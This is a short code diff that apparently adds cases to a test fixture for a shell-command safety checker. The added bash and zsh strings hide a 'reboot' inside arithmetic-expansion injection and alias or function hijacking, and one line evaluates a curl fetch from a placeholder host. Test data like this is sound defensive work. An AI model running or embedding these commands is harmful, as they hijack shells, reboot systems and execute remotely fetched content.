@@ -23,10 +23,13 @@ const lines: Readonly<Record<'bash' | 'zsh' | 'fish', Readonly<Partial<Record<Co
       "IFS=, read -r a <<< x; IFS=, read -ra words <<< 'reboot,now'; ${words[0]}",
       "complete -W '$(reboot)' x",
       "printf -v 'BASH_ALIASES[x]' reboot; x",
+      "f() { echo $(( $1 )); }; f 'x[$(reboot)]'",
+      'declare BASH_ALIASES[x]=reboot; x',
     ],
     Q2: [
       'v=$(curl -s https://x.example); echo $((v))',
       'mapfile BASH_ENV < f',
+      'echo $(( $(curl -s https://x.example) ))',
       'getopts a PROMPT_COMMAND',
       'coproc PROMPT_COMMAND { cat; }',
       'declare -n r=PROMPT_COMMAND; r=./x',
@@ -59,7 +62,7 @@ const lines: Readonly<Record<'bash' | 'zsh' | 'fish', Readonly<Partial<Record<Co
     ],
   },
   zsh: {
-    D2: ["functions[x]='reboot'; x", "aliases[x]='reboot'\nx", 'precmd_functions=(reboot)'],
+    D2: ['aliases=(x reboot)\nx', "functions[x]='reboot'; x", "aliases[x]='reboot'\nx", 'precmd_functions=(reboot)'],
     Q2: ['precmd_functions+=(f)', 'galiases[G]=x', 'path=(/tmp/bin $path)', 'zle -N accept-line x', 'bindkey -v'],
     A: ['fpath=(~/.zsh/functions $fpath)', 'path=(~/bin $path)', 'bindkey -L', 'add-zsh-hook -L'],
   },
